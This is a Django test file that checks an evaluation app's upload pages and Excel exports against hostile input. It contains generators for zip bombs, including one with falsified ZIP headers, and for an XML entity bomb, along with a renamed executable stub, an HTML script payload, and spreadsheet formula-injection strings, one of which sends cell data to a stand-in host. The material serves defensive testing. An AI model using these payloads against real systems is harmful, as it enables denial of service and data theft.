"""Malformed or hostile uploads get a clear Vietnamese answer, never a server error, and store
nothing (issue #8, Faults): zip bombs dressed as spreadsheets or Office files (honest about their
size, or lying about it), an XML entity bomb, a program renamed .pdf or .xlsx, a 50 MB file, and
formulas typed into text that the exports must keep as text.

Everything goes through the real pages with the test client, logged in as the unit's officer."""

from __future__ import annotations

import io
import re
import struct
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import load_workbook

from tests.factories import TEST_PASSWORD
from thidua.covenants.models import Criterion, Result
from thidua.org.models import Unit
from thidua.reporting.excel import results_template
from thidua.reporting.models import Evidence, ResultChange

HTMX = {"HX-Request": "true"}
MB = 1024 * 1024
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\0" * 48 + b"This program cannot be run in DOS mode."


# ------------------------------------------------------------------------------ hostile files


def zip_of(entries: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def honest_bomb(member: str, megabytes: int) -> bytes:
    """An Office-looking ZIP whose one entry inflates to `megabytes` MB of zeros (and says so)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", b"<Types/>")
        with archive.open(member, "w") as entry:
            for _ in range(megabytes):
                entry.write(b"\0" * MB)
    return buffer.getvalue()


def lying_bomb(member: str, megabytes: int) -> bytes:
    """The same, but its headers declare the big entry as 1 000 bytes: a guard that trusts the
    declared sizes lets it through to the spreadsheet reader."""
    data = bytearray(honest_bomb(member, megabytes))
    name = member.encode()
    for signature, size_at, name_len_at, name_at in ((b"PK\x03\x04", 22, 26, 30), (b"PK\x01\x02", 24, 28, 46)):
        for match in re.finditer(re.escape(signature), bytes(data)):
            start = match.start()
            length = struct.unpack("<H", data[start + name_len_at:start + name_len_at + 2])[0]
            if data[start + name_at:start + name_at + length] == name:
                data[start + size_at:start + size_at + 4] = struct.pack("<I", 1000)
    check = zipfile.ZipFile(io.BytesIO(bytes(data)))
    assert sum(info.file_size for info in check.infolist()) < 2000  # it lies
    return bytes(data)


def entity_bomb_xlsx(template: bytes) -> bytes:
    """A real template whose sheet starts with the "billion laughs" entity definitions."""
    laughs = ['<!ENTITY l0 "ha">'] + [f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10)]
    doctype = f"<!DOCTYPE worksheet [{''.join(laughs)}]>".encode()
    source = zipfile.ZipFile(io.BytesIO(template))
    entries = {}
    for info in source.infolist():
        data = source.read(info.filename)
        if info.filename == "xl/worksheets/sheet1.xml":
            assert b"<t>P-A</t>" in data and data.startswith(b"<worksheet")
            data = doctype + data.replace(b"<t>P-A</t>", b"<t>&l9;</t>", 1)
        entries[info.filename] = data
    return zip_of(entries)


# ------------------------------------------------------------------------------ pages


@pytest.fixture(autouse=True)
def media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "files"
    return settings.MEDIA_ROOT


@pytest.fixture
def officer_a(client, world, g1_covenant):
    assert client.login(username="officer_a", password=TEST_PASSWORD)
    return client


def stored(media) -> list:
    return [p for p in media.rglob("*") if p.is_file()] if media.exists() else []


def results_upload(client, name: str, data: bytes):
    return client.post(reverse("results_excel", args=("G1", 2024)), {"tep": SimpleUploadedFile(name, data)})


def evidence_upload(client, name: str, data: bytes, *, htmx: bool = True):
    url = reverse("evidence_upload", args=("G1", 2024, "P-A", "I.1"))
    return client.post(url, {"file": SimpleUploadedFile(name, data, content_type="application/pdf")},
                       headers=HTMX if htmx else {})


def figures() -> list:
    return list(Result.objects.order_by("pk").values_list("target", "actual", "baseline", "points", "note", "version"))


def refused_page(response, message: str) -> str:
    page = response.content.decode()
    assert response.status_code == 200, response.status_code
    assert message in page, page[:3000]
    assert 'id="confirm-form"' not in page
    return page


@pytest.mark.parametrize(
    ("name", "make", "message"),
    [
        ("so-lieu.xlsx", lambda: honest_bomb("xl/worksheets/sheet1.xml", 60), "nội dung tệp khi giải nén lớn hơn 50 MB, không nhận"),
        ("so-lieu.xlsx", lambda: lying_bomb("xl/worksheets/sheet1.xml", 300), "tệp bị hỏng hoặc không phải là tệp .xlsx, .ods hợp lệ"),
        ("so-lieu.xlsx", lambda: EXE, "không phải là tệp .xlsx hoặc .ods hợp lệ (nội dung không đúng định dạng)"),
        ("so-lieu.xlsx", lambda: b"PK\x03\x04" + b"\0" * (50 * MB), "Tệp lớn hơn 5 MB, không nhận"),
    ],
    ids=["zip-bomb", "lying-zip-bomb", "program-renamed", "50-MB"],
)
def test_a_hostile_spreadsheet_gets_a_clear_refusal_and_changes_nothing(officer_a, media, name, make, message):
    before = figures()
    refused_page(results_upload(officer_a, name, make()), message)
    assert figures() == before and not ResultChange.objects.exists()
    assert "thidua_excel_upload" not in officer_a.session and stored(media) == []


def test_an_entity_bomb_in_a_real_template_is_not_expanded(officer_a, g1_covenant, world, media):
    bomb = entity_bomb_xlsx(results_template(covenant=g1_covenant, units=[world.a]))
    before = figures()
    page = refused_page(results_upload(officer_a, "so-lieu.xlsx", bomb),
                        "so-lieu.xlsx: không đọc được bảng tính; tệp bị hỏng hoặc không đúng định dạng .xlsx, .ods.")
    assert "haha" not in page  # nothing was expanded
    assert figures() == before


@pytest.mark.parametrize(
    ("name", "make", "message"),
    [
        ("bao-cao.docx", lambda: honest_bomb("word/document.xml", 201), "khai báo dung lượng giải nén 201 MB, vượt giới hạn 200 MB"),
        ("bao-cao.docx", lambda: lying_bomb("word/document.xml", 300), "«bao-cao.docx» bị hỏng hoặc không đọc được (tệp nén không hợp lệ)"),
        ("so-lieu.xlsx", lambda: lying_bomb("xl/worksheets/sheet1.xml", 300), "«so-lieu.xlsx» bị hỏng hoặc không đọc được"),
        ("bao-cao.pdf", lambda: EXE, "«bao-cao.pdf» không phải PDF, tài liệu Office"),
        ("anh.png", lambda: b"<html><script>alert(1)</script></html>", "«anh.png» không phải PDF, tài liệu Office"),
        ("bao-cao.pdf", lambda: b"%PDF-1.4\n" + b"\0" * (50 * MB), "«bao-cao.pdf» vượt giới hạn 20 MB cho mỗi minh chứng"),
    ],
    ids=["zip-bomb", "lying-zip-bomb", "lying-zip-bomb-xlsx", "program-renamed-pdf", "html-renamed-png", "50-MB"],
)
def test_hostile_evidence_gets_a_clear_refusal_and_nothing_is_stored(officer_a, media, name, make, message):
    data = make()
    response = evidence_upload(officer_a, name, data)
    assert response.status_code == 200 and message in response.content.decode()
    plain = evidence_upload(officer_a, name, data, htmx=False)
    assert plain.status_code == 302
    page = officer_a.get(plain["Location"])
    assert page.status_code == 200 and message in page.content.decode()
    assert not Evidence.objects.exists() and stored(media) == []


# ------------------------------------------------------------------------------ formulas in exports

FORMULAS = {
    "unit": '=HYPERLINK("http://ke-gian.example/?d="&A1,"Bấm vào đây")',
    "criterion": "+cmd|' /C calc'!A0",
    "note": "@SUM(1+1)*cmd|' /C calc'!A0",
    "content": "-2+3",
}


@pytest.fixture
def poisoned(world, g1_covenant):
    """User-typed names and notes that a spreadsheet would run as formulas."""
    Unit.objects.filter(pk=world.a.pk).update(name=FORMULAS["unit"])
    Criterion.objects.filter(covenant=g1_covenant, code="I.1").update(title=FORMULAS["criterion"])
    g1_covenant.contents.filter(code="I").update(title=FORMULAS["content"])
    Result.objects.filter(criterion__code="I.1", unit=world.a).update(note=FORMULAS["note"])
    return g1_covenant


def no_formula_anywhere(xlsx: bytes) -> None:
    """No cell of any sheet is a formula: no <f> element in the workbook's XML."""
    with zipfile.ZipFile(io.BytesIO(xlsx)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert not re.search(rb"<f[ >]", archive.read(name)), name


def quoted_cells(xlsx: bytes) -> dict[str, bool]:
    """Every text cell holding one of the poisoned texts, and whether it is quote-prefixed text."""
    found = {}
    for ws in load_workbook(io.BytesIO(xlsx)).worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and any(text in cell.value for text in FORMULAS.values()):
                    found[f"{ws.title}!{cell.coordinate}"] = cell.data_type == "s" and bool(cell.quotePrefix or not cell.value.startswith(("=", "+", "-", "@")))
    return found


def test_the_results_template_keeps_formula_like_text_as_text(officer_a, poisoned):
    response = officer_a.get(reverse("results_excel_unit_template", args=("G1", 2024, "P-A")))
    assert response.status_code == 200
    no_formula_anywhere(response.content)
    cells = quoted_cells(response.content)
    assert len(cells) >= 3 and all(cells.values()), cells


def test_the_score_table_keeps_formula_like_names_as_text(client, world, poisoned):
    assert client.login(username="leader_g1_2024", password=TEST_PASSWORD)
    response = client.get(reverse("score_table_xlsx", args=("G1", 2024)))
    assert response.status_code == 200
    no_formula_anywhere(response.content)
    cells = quoted_cells(response.content)
    assert len(cells) >= 3 and all(cells.values()), cells


def test_a_50_mb_evidence_upload_is_not_read_past_the_limit(officer_a, media, monkeypatch):
    """The page stops reading the file once it passes 20 MB: no more than that reaches memory or disk."""
    from django.core.files import uploadhandler

    received = []
    real = uploadhandler.TemporaryFileUploadHandler.receive_data_chunk

    def counting(self, raw_data, start):
        received.append(len(raw_data))
        return real(self, raw_data, start)

    monkeypatch.setattr(uploadhandler.TemporaryFileUploadHandler, "receive_data_chunk", counting)
    response = evidence_upload(officer_a, "bao-cao.pdf", b"%PDF-1.4\n" + b"\0" * (50 * MB))
    assert response.status_code == 200
    assert "«bao-cao.pdf» vượt giới hạn 20 MB cho mỗi minh chứng." in response.content.decode()
    assert sum(received) <= 20 * MB
    assert not Evidence.objects.exists() and stored(media) == []


def test_the_evidence_upload_still_needs_the_csrf_token(world, g1_covenant, media):
    """The size guard is installed before CSRF runs; the check itself still happens."""
    from django.test import Client

    client = Client(enforce_csrf_checks=True)
    assert client.login(username="officer_a", password=TEST_PASSWORD)
    assert evidence_upload(client, "bao-cao.pdf", b"%PDF-1.4\n%%EOF\n").status_code == 403
    assert not Evidence.objects.exists()
